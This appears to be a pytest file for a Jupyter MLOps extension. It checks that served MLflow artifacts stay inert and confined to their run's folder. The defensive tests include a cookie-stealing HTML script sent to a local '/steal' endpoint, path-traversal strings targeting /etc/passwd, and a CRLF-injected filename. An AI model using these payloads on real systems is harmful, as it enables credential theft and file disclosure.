"""A run's artifacts through a real Jupyter server: one level listed, a file served with headers
that keep it inert, and nothing outside the run's own artifact root (traversal, absolute paths,
symlinks out, another host): on the seeded sqlite store, and on a real ``mlflow server`` that
proxies its artifacts."""

from __future__ import annotations

import asyncio
import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jupyter_mlops.server.artifact_headers import ARTIFACT_CSP
from tests.server.test_api import assert_error, call
from tests.server.test_trust import TOKEN, Listener

SCRIPTED = """<!doctype html><html><head><title>report</title></head><body>
<p id="p">untouched</p>
<script>document.title = 'RAN'; document.getElementById('p').textContent = 'RAN';
fetch('http://127.0.0.1:{port}/steal?' + document.cookie).catch(() => {{}});</script>
<img src="x" onerror="document.title = 'RAN'">
</body></html>"""


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Another host, as a shared store could name it: it records every connection."""
    found = Listener()
    yield found
    found.close()


def new_run(client, seeded: dict[str, Any], files: dict[str, str]) -> str:
    """A run of its own holding ``files`` (the seeded runs' artifact folders are written once:
    MLflow keeps, per run id, the artifact location it first used)."""
    run_id = client.create_run(seeded["experiments"]["churn"]).info.run_id
    for path, text in files.items():
        client.log_text(run_id, text, path)
    return run_id


def run_folder(client, run_id: str) -> Path:
    return Path(client.get_run(run_id).info.artifact_uri.removeprefix("file://"))


async def raw_get(http_server_client, jp_base_url, jp_auth_header, tail: str) -> Any:
    """GET ``mlops/api/<tail>`` exactly as written (no escaping, no normalising)."""
    return await http_server_client.fetch(
        f"{jp_base_url}mlops/api/{tail}", headers=jp_auth_header, raise_error=False
    )


async def test_listing_one_level(jp_fetch, seeded) -> None:
    run_id = seeded["run_id"]
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts")
    assert status == 200, reply
    assert reply == {
        "run_id": run_id,
        "path": "",
        "artifacts": [
            {"name": "notes", "path": "notes", "is_dir": True, "size": None},
            {"name": "summary.json", "path": "summary.json", "is_dir": False, "size": 2},
        ],
        "truncated": False,
    }
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts", params={"path": "notes/"})
    assert status == 200 and reply["path"] == "notes"
    assert reply["artifacts"] == [
        {"name": "readme.txt", "path": "notes/readme.txt", "is_dir": False, "size": 5}
    ]
    for missing in ("nope", "summary.json"):  # nothing there; a file is not a folder
        status, reply = await call(jp_fetch, "runs", run_id, "artifacts", params={"path": missing})
        assert_error(status, reply, 404)
    # a run that logged nothing lists nothing
    status, reply = await call(jp_fetch, "runs", seeded["other_run_id"], "artifacts")
    assert status == 200 and reply["artifacts"] == []


async def test_files_are_served_by_type_and_inert(jp_fetch, seeded, mlflow_client) -> None:
    files = {
        "notes/readme.txt": "hello",
        "summary.json": "{}",
        "reports/report.html": SCRIPTED.format(port=9),
        "plot.SVG": "<svg xmlns='http://www.w3.org/2000/svg'/>",
        "model/model.pkl": "\x00\x01binary",
        "data/é t.csv": "a,b\n1,2\n",
    }
    run_id = new_run(mlflow_client, seeded, files)
    expected = {
        ("notes", "readme.txt"): ("text/plain; charset=utf-8", "inline", b"hello"),
        ("summary.json",): ("application/json; charset=utf-8", "inline", b"{}"),
        ("reports", "report.html"): ("text/html; charset=utf-8", "inline", None),
        ("plot.SVG",): ("image/svg+xml", "inline", None),
        ("model", "model.pkl"): ("application/octet-stream", "attachment", b"\x00\x01binary"),
        ("data", "é t.csv"): ("text/csv; charset=utf-8", "inline", b"a,b\n1,2\n"),
    }
    for parts, (kind, disposition, body) in expected.items():
        response = await jp_fetch("mlops", "api", "runs", run_id, "artifacts", *parts)
        assert response.code == 200
        assert response.headers["Content-Type"] == kind, parts
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == ARTIFACT_CSP
        assert response.headers["Content-Disposition"].startswith(disposition + ";"), parts
        assert body is None or response.body == body
    # the HTML is served as logged (nothing rewritten), and its policy lets nothing run
    response = await jp_fetch("mlops", "api", "runs", run_id, "artifacts", "reports", "report.html")
    assert response.body.decode() == SCRIPTED.format(port=9)
    policy = [d.strip() for d in ARTIFACT_CSP.split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert not any(d.startswith("script-src") for d in policy)
    assert (
        'attachment; filename="model.pkl"'
        in (
            (
                await jp_fetch("mlops", "api", "runs", run_id, "artifacts", "model", "model.pkl")
            ).headers["Content-Disposition"]
        )
    )


async def test_a_scripted_html_report_runs_no_script_in_a_browser(
    jp_fetch, seeded, mlflow_client, listener, http_server_port, jp_base_url, jp_auth_header
) -> None:
    """Opened in Chromium, the report's inline script and handler do not run and nothing is
    fetched; the same page given to the browser without our headers does run (the control)."""
    from playwright.sync_api import sync_playwright

    from tests.ui.conftest import CHROMIUM, CHROMIUM_ARGS

    html = SCRIPTED.format(port=listener.port)
    run_id = new_run(mlflow_client, seeded, {"report.html": html})
    url = (
        f"http://127.0.0.1:{http_server_port[1]}{jp_base_url}mlops/api/runs/{run_id}"
        "/artifacts/report.html"
    )

    def browse() -> tuple[str, str, str]:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
            )
            try:
                page = browser.new_page(extra_http_headers=jp_auth_header)
                response = page.goto(url)
                assert response is not None and response.status == 200
                # inline scripts and the image's error handler run before the load event
                served = (page.title(), page.inner_text("#p"))
                control = browser.new_page()
                control.set_content(html.replace(str(listener.port), "9"))
                control.wait_for_function("document.title === 'RAN'")
                return (*served, control.title())
            finally:
                browser.close()

    title, text, control = await asyncio.to_thread(browse)
    assert (title, text) == ("report", "untouched")
    assert control == "RAN"
    assert listener.connections == 0


@pytest.mark.parametrize(
    "tail",
    [
        "../../../../etc/passwd",
        "notes/../../../secret.txt",
        "%2e%2e/%2e%2e/%2e%2e/secret.txt",
        "%2E%2E%2F%2E%2E%2Fsecret.txt",
        "%252e%252e/%252e%252e/secret.txt",
        "..%5c..%5csecret.txt",
        "notes%5creadme.txt",
        "/etc/passwd",
        "%2Fetc%2Fpasswd",
        "C:%5Cwindows",
        "notes/readme.txt%00.png",
    ],
)
async def test_traversal_is_refused(
    http_server_client, jp_base_url, jp_auth_header, seeded, tail
) -> None:
    (seeded["root"] / "secret.txt").write_text("SECRET\n")
    response = await raw_get(
        http_server_client, jp_base_url, jp_auth_header, f"runs/{seeded['run_id']}/artifacts/{tail}"
    )
    text = response.body.decode(errors="replace")
    assert "SECRET" not in text and "root:" not in text
    assert response.code == 400, (response.code, text)
    reply = json.loads(text)
    assert set(reply) == {"error", "message"} and "\n" not in reply["message"]
    assert reply["error"] == "bad_path", reply


@pytest.mark.parametrize(
    "path", ["..", "../..", "notes/../..", "/etc", "%2e%2e", "notes\\..\\..", "C:/x"]
)
async def test_listing_traversal_is_refused(jp_fetch, seeded, path) -> None:
    params = {"path": path}
    status, reply = await call(jp_fetch, "runs", seeded["run_id"], "artifacts", params=params)
    assert_error(status, reply, 400)
    assert reply["error"] == "bad_path"


async def test_symlinks_out_of_the_run_are_not_followed(
    jp_fetch, seeded, mlflow_client, tmp_path
) -> None:
    run_id = new_run(mlflow_client, seeded, {"notes/readme.txt": "hello", "summary.json": "{}"})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET\n")
    folder = run_folder(mlflow_client, run_id)
    os.symlink(outside / "secret.txt", folder / "link.txt")
    os.symlink(outside, folder / "linkdir")
    # a run's folder is its own: another run of the same store is outside it too
    other = run_folder(mlflow_client, seeded["other_run_id"])
    other.mkdir(parents=True, exist_ok=True)
    (other / "theirs.txt").write_text("SECRET of another run\n")
    os.symlink(other / "theirs.txt", folder / "sibling.txt")
    os.symlink(folder / "notes" / "readme.txt", folder / "alias.txt")  # inside: served
    os.symlink(folder / "loop", folder / "loop")
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts")
    assert status == 200
    assert [a["name"] for a in reply["artifacts"]] == ["notes", "alias.txt", "summary.json"]
    for parts in (("link.txt",), ("linkdir", "secret.txt"), ("sibling.txt",), ("loop",)):
        status, reply = await call(jp_fetch, "runs", run_id, "artifacts", *parts)
        assert_error(status, reply, 404)
        assert "SECRET" not in reply["message"]
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts", params={"path": "linkdir"})
    assert_error(status, reply, 404)
    response = await jp_fetch("mlops", "api", "runs", run_id, "artifacts", "alias.txt")
    assert response.code == 200 and response.body == b"hello"


async def test_an_artifact_over_the_cap_is_a_413(jp_fetch, seeded, mlflow_client) -> None:
    from jupyter_mlops.core.run_artifacts import MAX_BYTES

    run_id = new_run(mlflow_client, seeded, {"small.txt": "x"})
    with open(run_folder(mlflow_client, run_id) / "huge.bin", "wb") as fh:  # sparse: no bytes
        fh.truncate(MAX_BYTES + 1)
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts", "huge.bin")
    assert_error(status, reply, 413)
    assert reply["error"] == "too_large" and "50 MB" in reply["message"]


@pytest.mark.parametrize(
    ("parts", "expected", "code"),
    [
        (("runs", "0" * 32, "artifacts"), 404, "not_found"),
        (("runs", "0" * 32, "artifacts", "x.txt"), 404, "not_found"),
        (("runs", "not-a-run", "artifacts"), 400, "bad_run_id"),
        (("runs", "not-a-run", "artifacts", "x.txt"), 400, "bad_run_id"),
        (("runs", "{run_id}", "artifacts", "nope.txt"), 404, "not_found"),
        (("runs", "{run_id}", "artifacts", "notes"), 404, "not_found"),  # a folder
    ],
)
async def test_bad_artifact_reads(jp_fetch, seeded, parts, expected, code) -> None:
    parts = tuple(p.format(run_id=seeded["run_id"]) for p in parts)
    status, reply = await call(jp_fetch, *parts)
    assert_error(status, reply, expected)
    assert reply["error"] == code


async def test_artifacts_elsewhere_are_never_asked_for(
    jp_fetch, seeded, mlflow_client, listener, tmp_path, monkeypatch
) -> None:
    """A shared store's run whose artifact_uri names another host (or a folder outside the
    store's artifact root) is refused: no connection, no credentials sent."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", TOKEN)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET\n")
    here = f"127.0.0.1:{listener.port}"
    locations = [f"http://{here}/a", f"mlflow-artifacts://{here}/a", outside.as_uri()]
    run_ids = []
    for index, location in enumerate(locations):
        experiment = mlflow_client.create_experiment(f"elsewhere-{index}", location)
        run_ids.append(mlflow_client.create_run(experiment).info.run_id)
    for run_id in run_ids:
        for parts, params in (((), None), ((), {"path": "sub"}), (("secret.txt",), None)):
            status, reply = await call(jp_fetch, "runs", run_id, "artifacts", *parts, params=params)
            assert_error(status, reply, 403)
            assert reply["error"] == "foreign_artifacts" and "SECRET" not in reply["message"]
        status, reply = await call(jp_fetch, "runs", run_id)  # the run shows, unlisted
        assert status == 200 and reply["artifacts"] is None
        assert "not in this store's artifacts" in reply["artifacts_error"]
    assert listener.connections == 0 and TOKEN.encode() not in listener.received


async def test_artifacts_proxied_by_a_real_mlflow_server(
    jp_fetch, seeded, mlflow_server, tmp_path, monkeypatch
) -> None:
    import mlflow.tracking._tracking_service.utils as tracking_uri_state
    from mlflow import MlflowClient

    monkeypatch.setattr(tracking_uri_state, "_tracking_uri", mlflow_server)
    client = MlflowClient(mlflow_server)
    experiment = client.create_experiment(f"artifacts-{uuid.uuid4().hex[:8]}")
    run_id = client.create_run(experiment, run_name="served").info.run_id
    client.log_text(run_id, "hello", "notes/readme.txt")
    client.log_text(run_id, SCRIPTED.format(port=9), "report.html")
    monkeypatch.setattr(tracking_uri_state, "_tracking_uri", None)
    (seeded["root"] / "pyproject.toml").write_text(
        f'[tool.jupyter-mlops]\ntracking_uri = "{mlflow_server}"\n'
    )
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts")
    assert status == 200, reply
    assert [(a["name"], a["is_dir"]) for a in reply["artifacts"]] == [
        ("notes", True),
        ("report.html", False),
    ]
    status, reply = await call(jp_fetch, "runs", run_id, "artifacts", params={"path": "notes"})
    assert status == 200 and reply["artifacts"] == [
        {"name": "readme.txt", "path": "notes/readme.txt", "is_dir": False, "size": 5}
    ]
    response = await jp_fetch("mlops", "api", "runs", run_id, "artifacts", "notes", "readme.txt")
    assert response.code == 200 and response.body == b"hello"
    response = await jp_fetch("mlops", "api", "runs", run_id, "artifacts", "report.html")
    assert response.headers["Content-Security-Policy"] == ARTIFACT_CSP
    assert response.headers["Content-Type"].startswith("text/html")
    for parts, params, expected in (
        (("nope.txt",), None, 404),
        (("notes",), None, 404),
        ((), {"path": "nope"}, 404),
        ((), {"path": "../.."}, 400),
    ):
        status, reply = await call(jp_fetch, "runs", run_id, "artifacts", *parts, params=params)
        assert_error(status, reply, expected)


def test_headers_by_extension() -> None:
    from jupyter_mlops.server.artifact_headers import artifact_headers, content_type

    assert content_type("a/MLmodel") == "text/plain; charset=utf-8"
    assert content_type("x.PNG") == "image/png"
    assert content_type("x") == content_type("x.exe") == "application/octet-stream"
    assert content_type("x.pdf") == "application/octet-stream"
    headers = artifact_headers('dir/we"ird\r\nname.bin')
    assert headers["Content-Disposition"] == (
        "attachment; filename=\"we_ird__name.bin\"; filename*=UTF-8''we%22ird%0D%0Aname.bin"
    )
